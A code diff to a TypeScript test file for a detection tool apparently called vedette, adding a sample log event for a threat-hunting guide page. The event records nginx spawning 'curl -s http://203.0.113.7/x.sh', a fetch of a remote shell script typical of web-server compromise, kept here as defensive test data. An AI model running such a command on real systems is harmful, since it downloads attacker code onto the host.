@@ -1,6 +1,15 @@
 import { type ChildProcess, spawn } from 'node:child_process'
 import { once } from 'node:events'
-import { chmodSync, copyFileSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import {
+  chmodSync,
+  copyFileSync,
+  globSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs'
 import { tmpdir } from 'node:os'
 import { basename, join } from 'node:path'
 import { setTimeout as delay } from 'node:timers/promises'
@@ -12,6 +21,23 @@ import { type House, startHouse, vedette } from '../../test/house.ts'
 const folder = fileURLToPath(new URL('.', import.meta.url))
 const root = fileURLToPath(new URL('../..', import.meta.url))
 const scratch = mkdtempSync(join(tmpdir(), 'vedette-guide-'))
+
+/** Logs for the page on hunting. */
+const logs = join(scratch, 'logs')
+mkdirSync(logs)
+writeFileSync(
+  join(logs, 'processes.ndjson'),
+  `${JSON.stringify({
+    product: 'linux',
+    category: 'process_creation',
+    '@timestamp': '2026-11-20T08:00:00Z',
+    host: 'web1',
+    Image: '/usr/bin/curl',
+    CommandLine: 'curl -s http://203.0.113.7/x.sh',
+    ParentImage: '/usr/sbin/nginx',
+    User: 'www-data',
+  })}\n`,
+)
 
 /** Run by this test's own being: CI installed, and the house below is `npm start`. */
 const STARTS = ['npm ci', 'npm start']
@@ -95,6 +121,9 @@ describe('commands', () => {
       ALERT: (await first('alerts', 'list')) ?? '',
       INCIDENT: (await first('incident', 'list')) ?? '',
       PID: String(attacker.pid),
+      LOGS: logs,
+      RULES: join(root, 'content/rules'),
+      REPORT: join(scratch, 'report.html'),
     })
     expect(program).toBe('vedette')
     const { status, stdout, stderr } = await house.vedette(...args)
